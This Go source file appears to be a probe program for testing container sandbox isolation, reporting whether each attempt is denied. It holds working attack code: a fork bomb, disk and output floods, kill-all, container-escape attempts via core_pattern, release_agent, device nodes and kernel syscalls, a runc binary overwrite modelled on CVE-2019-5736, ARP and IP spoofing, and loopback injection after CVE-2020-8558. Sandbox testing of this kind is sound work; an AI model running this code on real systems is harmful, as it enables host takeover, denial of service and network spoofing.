package main

import (
	"bytes"
	"encoding/binary"
	"errors"
	"fmt"
	"io"
	"net"
	"os"
	"os/exec"
	"os/signal"
	"runtime/debug"
	"strconv"
	"strings"
	"syscall"
	"time"
	"unsafe"
)

// hostile does what no good program does. It reports false for a verb that it
// doesn't know.
//
//	bomb                 start processes that start processes, for ever
//	fill=PATH:MIB        write so much to a file, and say how much fitted
//	flood=MIB            print so much without a line's end, then "end"
//	kill-all             SIGKILL to all processes that can be seen
//	abort                end by SIGABRT, with a core dump if there may be one, in a child
//	attack               try what a container may not, and say what came of it
//	overwrite            write to the programs of all processes, as CVE-2019-5736 did
//	reach=HOST:PORT      say whether a TCP connection can be made
//	spoof=IP:TARGET:PORT send UDP with another's address to the target, and tell
//	                     the neighbours by ARP that IP is here
//	local=PORT           send UDP to the router's own loopback, from outside of it
//	udp=PORT             print what comes there, for ever
//	stat=PATH            print type, mode and owner
//	ls=PATH              print a directory's names
//	env                  print the environment, quoted
func hostile(verb, value string) (known bool, err error) {
	switch verb {
	case "bomb":
		return true, bomb()
	case "fill":
		path, size, _ := strings.Cut(value, ":")
		return true, fill(path, size)
	case "flood":
		return true, flood(value)
	case "kill-all":
		fmt.Println("kill:", syscall.Kill(-1, syscall.SIGKILL))
	case "abort":
		// The first process of a container can't be ended by a signal of its own.
		cmd := exec.Command("/probe", "abort-now")
		cmd.Run()
		fmt.Println("ended by", cmd.ProcessState)
	case "abort-now":
		var limit syscall.Rlimit
		if err := syscall.Getrlimit(syscall.RLIMIT_CORE, &limit); err != nil {
			return true, err
		}
		limit.Cur = limit.Max
		if err := syscall.Setrlimit(syscall.RLIMIT_CORE, &limit); err != nil {
			return true, err
		}
		signal.Reset()
		debug.SetTraceback("crash")
		panic("on purpose")
	case "attack":
		attack()
	case "overwrite":
		overwrite()
	case "reach":
		conn, err := net.DialTimeout("tcp", value, time.Second)
		if err == nil {
			conn.Close()
		}
		fmt.Printf("reach %s: %v\n", value, err)
	case "spoof":
		parts := strings.SplitN(value, ":", 3)
		if len(parts) != 3 {
			return true, errors.New("want IP:TARGET:PORT")
		}
		return true, spoof(net.ParseIP(parts[0]).To4(), net.ParseIP(parts[1]).To4(), parts[2])
	case "local":
		return true, local(value)
	case "udp":
		return true, listenUDP(value)
	case "stat":
		info, err := os.Stat(value)
		if err != nil {
			return true, err
		}
		s := info.Sys().(*syscall.Stat_t)
		fmt.Printf("%s: %v %d %d\n", value, info.Mode(), s.Uid, s.Gid)
	case "ls":
		entries, err := os.ReadDir(value)
		var names []string
		for _, e := range entries {
			names = append(names, e.Name())
		}
		fmt.Printf("%s: %s\n", value, strings.Join(names, " "))
		return true, err
	case "env":
		for _, e := range os.Environ() {
			fmt.Printf("env %.200q\n", e)
		}
	default:
		return false, nil
	}
	return true, nil
}

// bomb never ends. The first process says so once nothing more can be started.
func bomb() error {
	said := false
	for {
		cmd := exec.Command("/probe", "bomb")
		cmd.Env = append(os.Environ(), "QUIET=1", "GOMAXPROCS=1")
		if err := cmd.Start(); err != nil && !said && os.Getenv("QUIET") == "" {
			fmt.Println("no more processes:", err)
			said = true
		}
	}
}

func fill(path, size string) error {
	most, err := strconv.Atoi(size)
	if err != nil {
		return err
	}
	f, err := os.Create(path)
	if err != nil {
		return err
	}
	block, written := make([]byte, 1<<20), 0
	for ; written < most && err == nil; written++ {
		_, err = f.Write(block)
	}
	fmt.Printf("filled %d MiB: %v\n", written, err)
	return f.Close()
}

func flood(size string) error {
	n, err := strconv.Atoi(size)
	if err != nil {
		return err
	}
	block := bytes.Repeat([]byte("x"), 1<<20)
	for range n {
		if _, err := os.Stdout.Write(block); err != nil {
			return err
		}
	}
	_, err = fmt.Println("end")
	return err
}

// attack prints a line "NAME: error" for what was denied, and "NAME: done" for
// what was not.
func attack() {
	write := func(path, text string) func() error {
		return func() error {
			f, err := os.OpenFile(path, os.O_WRONLY, 0)
			if err != nil {
				return err
			}
			defer f.Close()
			_, err = f.WriteString(text)
			return err
		}
	}
	open := func(path string) func() error {
		return func() error {
			f, err := os.Open(path)
			if err != nil {
				return err
			}
			defer f.Close()
			n, err := f.Read(make([]byte, 1))
			if n == 0 && err == nil || errors.Is(err, io.EOF) {
				return errors.New("is empty")
			}
			return err
		}
	}
	device := func(major, minor int) func() error {
		return func() error {
			path := fmt.Sprintf("/tmp-device-%d-%d", major, minor)
			if err := syscall.Mknod(path, syscall.S_IFBLK|0o600, major<<8|minor); err != nil {
				return err
			}
			defer os.Remove(path)
			return open(path)()
		}
	}
	call := func(number uintptr, args ...uintptr) func() error {
		return func() error {
			var a [6]uintptr
			copy(a[:], args)
			if _, _, errno := syscall.Syscall6(number, a[0], a[1], a[2], a[3], a[4], a[5]); errno != 0 {
				return errno
			}
			return nil
		}
	}
	handle := [16]byte{0: 8, 4: 1, 8: 2} // the root directory's, as file systems have it
	text := func(s string) uintptr { return uintptr(unsafe.Pointer(syscall.StringBytePtr(s))) }
	for _, a := range []struct {
		name string
		try  func() error
	}{
		{"core_pattern", write("/proc/sys/kernel/core_pattern", "|/probe")},
		{"sysctl", write("/proc/sys/kernel/panic", "0")},
		{"net sysctl", write("/proc/sys/net/ipv4/ip_forward", "1")},
		{"sysrq", write("/proc/sysrq-trigger", "h")},
		{"uevent_helper", write("/sys/kernel/uevent_helper", "/probe")},
		{"cgroup", write("/sys/fs/cgroup/cgroup.procs", "1")},
		{"memory cgroup", write("/sys/fs/cgroup/memory/memory.limit_in_bytes", "-1")},
		{"pids cgroup", write("/sys/fs/cgroup/pids/pids.max", "max")},
		{"release_agent", write("/sys/fs/cgroup/devices/release_agent", "/probe")},
		{"oom_score_adj", write("/proc/self/oom_score_adj", "-1000")},
		{"remount proc", func() error { return syscall.Mount("", "/proc/sys", "", syscall.MS_REMOUNT|syscall.MS_BIND, "") }},
		{"remount sys", func() error { return syscall.Mount("", "/sys", "", syscall.MS_REMOUNT, "") }},
		{"mount proc", func() error { return syscall.Mount("proc", "/proc", "proc", 0, "") }},
		{"mount cgroup", func() error { return syscall.Mount("cgroup", "/sys/fs/cgroup", "cgroup", 0, "memory") }},
		{"mount tmpfs", func() error { return syscall.Mount("tmpfs", "/etc", "tmpfs", 0, "") }},
		{"umount", func() error { return syscall.Unmount("/proc/kcore", syscall.MNT_DETACH) }},
		{"pivot_root", func() error { return syscall.PivotRoot("/", "/") }},
		{"user namespace", func() error { return syscall.Unshare(syscall.CLONE_NEWUSER) }},
		{"mount namespace", func() error { return syscall.Unshare(syscall.CLONE_NEWNS) }},
		{"net namespace", func() error { return syscall.Unshare(syscall.CLONE_NEWNET) }},
		{"kcore", open("/proc/kcore")},
		{"kmsg", open("/dev/kmsg")},
		{"kernel keys", open("/proc/keys")},
		{"firmware", open("/sys/firmware/acpi/tables/DSDT")},
		{"first disk", device(254, 0)},
		{"other disk", device(8, 0)},
		{"loop device", device(7, 0)},
		{"mem", func() error {
			if err := syscall.Mknod("/mem", syscall.S_IFCHR|0o600, 1<<8|1); err != nil {
				return err
			}
			return open("/mem")()
		}},
		{"reboot", func() error { return syscall.Reboot(syscall.LINUX_REBOOT_CMD_CAD_OFF) }},
		{"swapon", call(syscall.SYS_SWAPON, text("/none"))},
		{"settimeofday", func() error {
			var tv syscall.Timeval
			syscall.Gettimeofday(&tv)
			return syscall.Settimeofday(&tv)
		}},
		{"sethostname", func() error { return syscall.Sethostname([]byte("mine")) }},
		{"init_module", call(syscall.SYS_INIT_MODULE, 0, 0, text(""))},
		{"kexec", call(syscall.SYS_KEXEC_LOAD)},
		{"bpf", call(321, 0, 0, 0)},
		{"perf", call(syscall.SYS_PERF_EVENT_OPEN, 0, 0, 0)},
		{"keyctl", call(syscall.SYS_KEYCTL, 0, ^uintptr(0)-2, 0)},
		{"syslog", func() error {
			_, err := syscall.Klogctl(3, make([]byte, 16))
			return err
		}},
		{"open_by_handle_at", call(304, 0, uintptr(unsafe.Pointer(&handle)), 0)},
		{"userfaultfd", call(323, 0)},
		{"add an address", func() error {
			c, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_DGRAM, 0)
			if err != nil {
				return err
			}
			defer syscall.Close(c)
			var req [40]byte
			copy(req[:], "eth0")
			binary.NativeEndian.PutUint16(req[16:], syscall.AF_INET)
			copy(req[20:], []byte{10, 66, 66, 66})
			return call(syscall.SYS_IOCTL, uintptr(c), syscall.SIOCSIFADDR, uintptr(unsafe.Pointer(&req)))()
		}},
		{"raw socket", func() error { // Docker lets them
			c, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_RAW, syscall.IPPROTO_ICMP)
			if err == nil {
				syscall.Close(c)
			}
			return err
		}},
	} {
		if err := a.try(); err != nil {
			fmt.Printf("%s: denied: %v\n", a.name, err)
		} else {
			fmt.Printf("%s: done\n", a.name)
		}
	}
	fmt.Println("attacks over")
}

// overwrite opens all programs that /proc leads to for writing, and those of
// processes that come while it looks: the OCI runtime's, when somebody runs a
// command in this container.
func overwrite() {
	debug.SetGCPercent(100)
	own, _ := os.Readlink("/proc/self/exe")
	fmt.Println("overwrite: begun")
	seen := map[string]bool{}
	for until := time.Now().Add(8 * time.Second); time.Now().Before(until); {
		dirs, err := os.ReadDir("/proc")
		if err != nil {
			fmt.Println("overwrite:", err)
			return
		}
		for _, d := range dirs {
			if _, err := strconv.Atoi(d.Name()); err != nil {
				continue
			}
			exe := "/proc/" + d.Name() + "/exe"
			held, err := os.OpenFile(exe, os.O_RDONLY, 0)
			if err != nil {
				continue
			}
			name, _ := os.Readlink(fmt.Sprintf("/proc/self/fd/%d", held.Fd()))
			if name != own {
				// A program that runs is busy; the trick is to wait until it doesn't.
				for range 200 {
					f, err := os.OpenFile(fmt.Sprintf("/proc/self/fd/%d", held.Fd()), os.O_WRONLY, 0)
					if err == nil {
						_, err = f.Write([]byte("#!/probe\n"))
						f.Close()
						if err == nil {
							fmt.Printf("overwrite: %s: done\n", name)
							break
						}
					}
					if !seen[name+err.Error()] {
						seen[name+err.Error()] = true
						fmt.Printf("overwrite: %s: %v\n", name, err)
					}
				}
			}
			held.Close()
		}
	}
	fmt.Println("overwrite: over")
}

func listenUDP(port string) error {
	c, err := net.ListenPacket("udp4", ":"+port)
	if err != nil {
		return err
	}
	fmt.Println("listening")
	b := make([]byte, 1500)
	for {
		n, from, err := c.ReadFrom(b)
		if err != nil {
			return err
		}
		fmt.Printf("from %s: %s\n", from, b[:n])
	}
}

// spoof sends one packet with the address that it has and one with another's,
// and claims the latter by ARP.
func spoof(mine, target net.IP, port string) error {
	own, err := net.Dial("udp4", net.JoinHostPort(target.String(), port))
	if err != nil {
		return err
	}
	fmt.Fprint(own, "honest")
	link, err := net.InterfaceByName("eth0")
	if err != nil {
		return err
	}
	raw, err := syscall.Socket(syscall.AF_PACKET, syscall.SOCK_RAW, 0)
	if err != nil {
		return fmt.Errorf("packet socket: %w", err)
	}
	to := &syscall.SockaddrLinklayer{Protocol: 0x0608, Ifindex: link.Index, Halen: 6, Addr: [8]byte{255, 255, 255, 255, 255, 255}}
	arp := append(bytes.Repeat([]byte{255}, 6), link.HardwareAddr...)
	arp = append(arp, 8, 6, 0, 1, 8, 0, 6, 4, 0, 2)
	arp = append(append(arp, link.HardwareAddr...), mine...)
	arp = append(append(arp, link.HardwareAddr...), mine...)
	for range 20 {
		if err := syscall.Sendto(raw, arp, 0, to); err != nil {
			fmt.Println("ARP:", err)
			break
		}
	}
	ip, err := syscall.Socket(syscall.AF_INET, syscall.SOCK_RAW, syscall.IPPROTO_RAW)
	if err != nil {
		return fmt.Errorf("raw socket: %w", err)
	}
	packet, err := udp(mine, target, port, "forged")
	if err != nil {
		return err
	}
	for range 20 {
		err = syscall.Sendto(ip, packet, 0, &syscall.SockaddrInet4{Addr: [4]byte(target)})
	}
	fmt.Println("forged packets sent:", err)
	fmt.Fprint(own, "honest again")
	return nil
}

// udp is an IP packet.
func udp(from, to net.IP, port, text string) ([]byte, error) {
	n, err := strconv.Atoi(port)
	if err != nil {
		return nil, err
	}
	packet := make([]byte, 28)
	packet[0], packet[8], packet[9] = 0x45, 64, syscall.IPPROTO_UDP
	binary.BigEndian.PutUint16(packet[2:], uint16(28+len(text)))
	copy(packet[12:], from)
	copy(packet[16:], to)
	sum := uint32(0)
	for i := 0; i < 20; i += 2 {
		sum += uint32(binary.BigEndian.Uint16(packet[i:]))
	}
	for sum > 0xffff {
		sum = sum>>16 + sum&0xffff
	}
	binary.BigEndian.PutUint16(packet[10:], ^uint16(sum))
	binary.BigEndian.PutUint16(packet[20:], 4444)
	binary.BigEndian.PutUint16(packet[22:], uint16(n))
	binary.BigEndian.PutUint16(packet[24:], uint16(8+len(text)))
	return append(packet, text...), nil
}

// local sends frames for 127.0.0.1 to the router, as CVE-2020-8558 did.
func local(port string) error {
	link, err := net.InterfaceByName("eth0")
	if err != nil {
		return err
	}
	own, err := net.Dial("udp4", "172.31.255.250:9")
	if err != nil {
		return err
	}
	fmt.Fprint(own, "who is the router?")
	time.Sleep(200 * time.Millisecond)
	table, err := os.ReadFile("/proc/net/arp")
	if err != nil {
		return err
	}
	var routers []net.HardwareAddr
	for line := range strings.Lines(string(table)) {
		for _, field := range strings.Fields(line) {
			if mac, err := net.ParseMAC(field); err == nil {
				routers = append(routers, mac)
			}
		}
	}
	raw, err := syscall.Socket(syscall.AF_PACKET, syscall.SOCK_RAW, 0)
	if err != nil {
		return fmt.Errorf("packet socket: %w", err)
	}
	sent := 0
	for _, router := range routers {
		for _, from := range []net.IP{own.LocalAddr().(*net.UDPAddr).IP.To4(), {127, 0, 0, 1}, {127, 0, 0, 2}} {
			packet, err := udp(from, net.IP{127, 0, 0, 1}, port, "from a task")
			if err != nil {
				return err
			}
			frame := append(append(append([]byte{}, router...), link.HardwareAddr...), 8, 0)
			if err := syscall.Sendto(raw, append(frame, packet...), 0, &syscall.SockaddrLinklayer{Ifindex: link.Index}); err != nil {
				return err
			}
			sent++
		}
	}
	fmt.Printf("%d frames sent for 127.0.0.1 by %v\n", sent, routers)
	return nil
}
